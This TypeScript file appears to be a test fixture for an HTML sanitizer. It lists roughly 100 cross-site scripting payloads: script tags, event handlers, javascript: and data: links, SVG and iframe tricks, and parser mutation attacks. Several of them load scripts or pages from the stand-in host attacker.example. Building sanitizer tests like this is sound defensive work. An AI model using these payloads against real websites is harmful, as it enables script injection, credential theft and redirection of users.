/** A host that no page may ever ask for anything. */
export const ATTACKER = 'attacker.example'

export interface Attack {
  readonly name: string
  /** The HTML; `run` is a statement without spaces or quotes that tells its number to the window. */
  readonly html: (run: string) => string
  /** It leaves something open, and so would hide what follows from whoever reads it. */
  readonly open?: true
  /** It has characters that no text may have: it is not stored at all. */
  readonly refused?: true
}

const TAB = '\t'
const NUL = '\0'

/** `javascript:` as numeric character references without semicolons, zero-padded to seven digits. */
const padded = [...'javascript:'].map((letter) => `&#${`${letter.charCodeAt(0)}`.padStart(7, '0')}`).join('')
const hexadecimal = [...'javascript:'].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('')

const scripts: readonly Attack[] = [
  { name: 'script', html: (run) => `<script>${run}</script>` },
  { name: 'script, mixed case', html: (run) => `<ScRiPt>${run}</sCrIpT>` },
  { name: 'script from elsewhere', html: () => `<SCRIPT SRC=https://${ATTACKER}/x.js></SCRIPT>` },
  { name: 'script of no protocol', html: () => `<script src=//${ATTACKER}/x.js></script>` },
  { name: 'script as module', html: (run) => `<script type="module">${run}</script>` },
  { name: 'script with a slash', html: (run) => `<script/x>${run}</script>` },
  { name: 'script within script', html: (run) => `<scr<script>ipt>${run}</scr</script>ipt>` },
  { name: 'two opening brackets', html: (run) => `<<script>${run}//<</script>` },
  { name: 'script, never closed', html: (run) => `<script>${run}`, open: true },
  { name: 'script, end tag with space', html: (run) => `<script>${run}</script >` },
  { name: 'script with a null byte', html: (run) => `<scr${NUL}ipt>${run}</scr${NUL}ipt>`, refused: true },
  { name: 'script by data address', html: (run) => `<script src="data:text/javascript,${run}"></script>` },
  { name: 'escaped once', html: (run) => `&lt;script&gt;${run}&lt;/script&gt;` },
  { name: 'escaped twice', html: (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;` },
]

const handlers: readonly Attack[] = [
  { name: 'onerror', html: (run) => `<img src=x onerror=${run}>` },
  { name: 'onerror, slashes for spaces', html: (run) => `<img/src=x/onerror=${run}>` },
  { name: 'onerror, line break before =', html: (run) => `<img src=x onerror\n=\n${run}>` },
  { name: 'onerror, case', html: (run) => `<IMG SRC=x OnErRoR="${run}">` },
  { name: 'onerror, form feed', html: (run) => `<img\fsrc=x\fonerror=${run}>`, refused: true },
  { name: 'onerror after a bracket in quotes', html: (run) => `<img alt=">" src=x onerror=${run}>` },
  { name: 'onerror out of a broken alt', html: (run) => `<img alt="\`"onerror=${run} src=x>` },
  { name: 'onload of a good picture', html: (run) => `<img src="/favicon.svg" onload="${run}">` },
  { name: 'three quotes', html: (run) => `<img """><script>${run}</script>">` },
  { name: 'img, never closed', html: (run) => `<img src=x onerror="${run}"`, open: true },
  { name: 'onload of the body', html: (run) => `<body onload=${run}>` },
  { name: 'onpageshow of the body', html: (run) => `<body onpageshow=${run}>` },
  { name: 'onfocus by autofocus', html: (run) => `<input autofocus onfocus=${run}>` },
  { name: 'onfocus by tabindex', html: (run) => `<p id=x tabindex=1 autofocus onfocus=${run}>x</p>` },
  { name: 'ontoggle', html: (run) => `<details open ontoggle=${run}>x</details>` },
  { name: 'onstart of a marquee', html: (run) => `<marquee onstart=${run}>x</marquee>` },
  { name: 'onerror of a video source', html: (run) => `<video><source onerror="${run}"></video>` },
  { name: 'onerror of audio', html: (run) => `<audio src=x onerror=${run}></audio>` },
  { name: 'onerror of an object', html: (run) => `<object data=x: onerror=${run}></object>` },
  {
    name: 'onanimationstart',
    html: (run) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${run}>x</p>`,
  },
  { name: 'onwheel with a slash', html: (run) => `<p/onmouseover=${run}/onwheel=${run}>x</p>` },
]

const links: readonly Attack[] = [
  { name: 'javascript:', html: (run) => `<a href="javascript:${run}">x</a>` },
  { name: 'javascript:, case', html: (run) => `<a href="JaVaScRiPt:${run}">x</a>` },
  { name: 'javascript:, tab inside', html: (run) => `<a href="java${TAB}script:${run}">x</a>` },
  { name: 'javascript:, line break inside', html: (run) => `<a href="java\nscript:${run}">x</a>` },
  { name: 'javascript:, tab as reference', html: (run) => `<a href="java&Tab;script&colon;${run}">x</a>` },
  { name: 'javascript:, control before', html: (run) => `<a href=" &#14; javascript:${run}">x</a>` },
  { name: 'javascript:, null byte', html: (run) => `<a href="java${NUL}script:${run}">x</a>`, refused: true },
  { name: 'javascript:, padded references', html: (run) => `<a href="${padded}${run}">x</a>` },
  { name: 'javascript:, hexadecimal references', html: (run) => `<a href="${hexadecimal}${run}">x</a>` },
  { name: 'javascript:, without quotes', html: (run) => `<a href=javascript:${run}>x</a>` },
  { name: 'javascript:, with a comment', html: (run) => `<a href="javascript://%0a${run}">x</a>` },
  { name: 'javascript: of a picture', html: (run) => `<img src="javascript:${run}">` },
  { name: 'vbscript:', html: (run) => `<a href="vbscript:${run}">x</a>` },
  { name: 'data: page', html: (run) => `<a href="data:text/html,<script>${run}</script>">x</a>` },
  { name: 'data: page, encoded', html: () => '<a href="data:text/html;base64,PHNjcmlwdD4x">x</a>' },
  { name: 'data: picture', html: () => '<img src="data:image/svg+xml;base64,PHN2Zy8+">' },
  { name: 'blob:', html: () => `<a href="blob:https://${ATTACKER}/x">x</a>` },
  { name: 'no protocol', html: () => `<a href="//${ATTACKER}">x</a><img src="//${ATTACKER}/x.png">` },
  { name: 'backslash for a slash', html: () => `<img src="/\\${ATTACKER}/x.png">` },
  { name: 'tab between slashes', html: () => `<img src="/${TAB}/${ATTACKER}/x.png">` },
  { name: 'srcset', html: () => `<img src="/favicon.svg" srcset="https://${ATTACKER}/x.png 1x">` },
  { name: 'ping', html: () => `<a href="/" ping="https://${ATTACKER}/">x</a>` },
]

const elements: readonly Attack[] = [
  { name: 'svg onload', html: (run) => `<svg onload=${run}>`, open: true },
  { name: 'svg script', html: (run) => `<svg><script>${run}</script></svg>` },
  { name: 'svg script by href', html: (run) => `<svg><script href="data:,${run}" /></svg>` },
  { name: 'svg link', html: (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>` },
  {
    name: 'svg animated link',
    html: (run) =>
      `<svg><a><animate attributeName=href values=javascript:${run} /><text y=9>x</text></a></svg>`,
  },
  { name: 'svg onbegin', html: (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>` },
  { name: 'svg use', html: () => `<svg><use href="https://${ATTACKER}/x.svg#x" /></svg>` },
  { name: 'math link', html: (run) => `<math><mi xlink:href="javascript:${run}">x</mi></math>` },
  { name: 'iframe', html: () => `<iframe src="https://${ATTACKER}/"></iframe>` },
  { name: 'iframe javascript:', html: (run) => `<iframe src="javascript:${run}"></iframe>` },
  { name: 'iframe srcdoc', html: (run) => `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>` },
  { name: 'iframe, never closed', html: (run) => `<iframe src="javascript:${run}"`, open: true },
  {
    name: 'object and embed',
    html: () => `<object data="//${ATTACKER}/x"></object><embed src="//${ATTACKER}">`,
  },
  {
    name: 'form and formaction',
    html: (run) =>
      `<form action="https://${ATTACKER}"><button formaction="javascript:${run}">x</button></form>`,
  },
  { name: 'isindex of old', html: (run) => `<isindex type=image src=x onerror=${run}>` },
  { name: 'style import', html: () => `<style>@import "https://${ATTACKER}/x.css";</style>` },
  { name: 'style attribute', html: () => `<p style="background:url(https://${ATTACKER}/x.png)">x</p>` },
  { name: 'style over the page', html: () => '<p style="position:fixed;inset:0;z-index:99">Log in</p>' },
  {
    name: 'background attribute',
    html: () => `<table background="https://${ATTACKER}/x.png"><tr><td>x</table>`,
  },
  { name: 'stylesheet', html: () => `<link rel=stylesheet href=https://${ATTACKER}/x.css>` },
  { name: 'preload', html: () => `<link rel=preload as=image href=https://${ATTACKER}/x.png>` },
  { name: 'meta refresh', html: () => `<meta http-equiv=refresh content="0;url=https://${ATTACKER}/">` },
  {
    name: 'meta refresh to data:',
    html: (run) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  },
  { name: 'base', html: () => `<base href="https://${ATTACKER}/">` },
  { name: 'names that shadow the page', html: () => '<h2 id=root name=cookie class=modal>x</h2>' },
  { name: 'custom element', html: (run) => `<x-y onclick=${run} is=x>x</x-y>` },
]

const parserTricks: readonly Attack[] = [
  { name: 'template', html: (run) => `<template><script>${run}</script></template>` },
  {
    name: 'shadow root',
    html: (run) => `<p><template shadowrootmode=open><img src=x onerror=${run}></template></p>`,
  },
  {
    name: 'noscript',
    html: (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  },
  { name: 'textarea', html: (run) => `<textarea></textarea><img src=x onerror=${run}>` },
  { name: 'title', html: (run) => `<title><p title="</title><img src=x onerror=${run}>"></title>` },
  { name: 'xmp', html: (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>` },
  { name: 'textarea, never closed', html: (run) => `<textarea><img src=x onerror=${run}>`, open: true },
  { name: 'plaintext', html: (run) => `<plaintext><img src=x onerror=${run}>`, open: true },
  { name: 'comment that ends early', html: (run) => `<!--><img src=x onerror=${run}>-->` },
  { name: 'comment that ends with !', html: (run) => `<!-- --!><img src=x onerror=${run}> -->` },
  { name: 'comment, never closed', html: (run) => `<!-- <img src=x onerror=${run}>`, open: true },
  { name: 'conditional comment', html: (run) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->` },
  { name: 'processing instruction', html: (run) => `<?xml version="1.0"?><?x <img src=x onerror=${run}> ?>` },
  { name: 'CDATA', html: (run) => `<![CDATA[<script>${run}</script>]]>` },
  { name: 'CDATA in svg', html: (run) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>` },
  {
    name: 'mutation by mglyph and style',
    html: (run) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    open: true,
  },
  {
    name: 'mutation by nested forms',
    html: (run) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}></style></mglyph></form>`,
    open: true,
  },
  {
    name: 'mutation by svg and paragraph',
    html: (run) => `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
    open: true,
  },
  {
    name: 'mutation by annotation-xml',
    html: (run) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  },
  {
    name: 'mutation by foreignObject',
    html: (run) => `<svg><foreignObject><img src=x onerror=${run}></svg>`,
  },
  {
    name: 'tables rewritten by the page',
    html: (run) => `<p title="<table>"></p><img src="/favicon.svg" alt="<table><img src=x onerror=${run}>">`,
  },
  { name: 'letters of full width', html: (run) => `＜script＞${run}＜/script＞` },
  { name: 'UTF-7', html: (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-` },
]

/** Known ways to smuggle code into HTML, after OWASP's and PortSwigger's cheat sheets and published mutations. */
export const attacks: readonly Attack[] = [...scripts, ...handlers, ...links, ...elements, ...parserTricks]
